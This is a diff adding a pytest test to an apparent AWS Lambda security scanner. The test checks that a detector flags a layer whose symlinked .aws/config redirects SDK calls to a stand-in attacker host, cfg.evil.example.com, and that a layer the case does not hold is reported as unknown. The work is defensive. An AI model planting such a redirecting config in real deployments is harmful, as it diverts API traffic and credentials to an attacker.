@@ -565,3 +565,25 @@ def test_home_into_a_package_makes_its_aws_config_the_sdks(builder: CaseBuilder)
     )
     assert "endpoint_url sends the calls to cfg.evil.example.com" in home.summary
     assert found[("cart", "/var/task/.aws/credentials")].severity is Severity.MEDIUM
+
+
+def test_home_through_a_linked_folder_or_into_an_uncollected_layer(builder: CaseBuilder) -> None:
+    """`h/.aws` shipped as a symlink to a folder is followed like a linked file (the SDK
+    opens `~/.aws/config` through it); a HOME into a layer the case does not hold is
+    unknown (MEDIUM), as AWS_CONFIG_FILE naming the same path would be, never quiet."""
+    evil = "[default]\nendpoint_url = https://cfg.evil.example.com\n"
+    builder.layer(LAYER, zip_bytes({"conf/config": evil}, links={"h/.aws": "../conf"}))
+    builder.versions("orders", [function_config("orders", env={"HOME": "/opt/h"}, layers=[LAYER])])
+    missing = "arn:aws:lambda:eu-west-1:444455556666:layer:not-collected:1"
+    env = {"HOME": "/opt/x"}
+    builder.versions("cart", [function_config("cart", env=env, layers=[LAYER, missing])])
+    found = {
+        (f.resource.split(":")[6], f.details["path"]): f
+        for f in run_detector(builder, cfg_traffic_redirect.DETECTOR)
+    }
+    linked = found[("orders", "/opt/h/.aws/config")]
+    assert linked.severity is Severity.MEDIUM
+    assert "/opt/h/.aws is a symlink" in linked.summary
+    assert "endpoint_url sends the calls to cfg.evil.example.com" in linked.summary
+    unknown = found[("cart", "/opt/x/.aws/config")]
+    assert unknown.severity is Severity.MEDIUM and unknown.details["variable"] == "HOME"
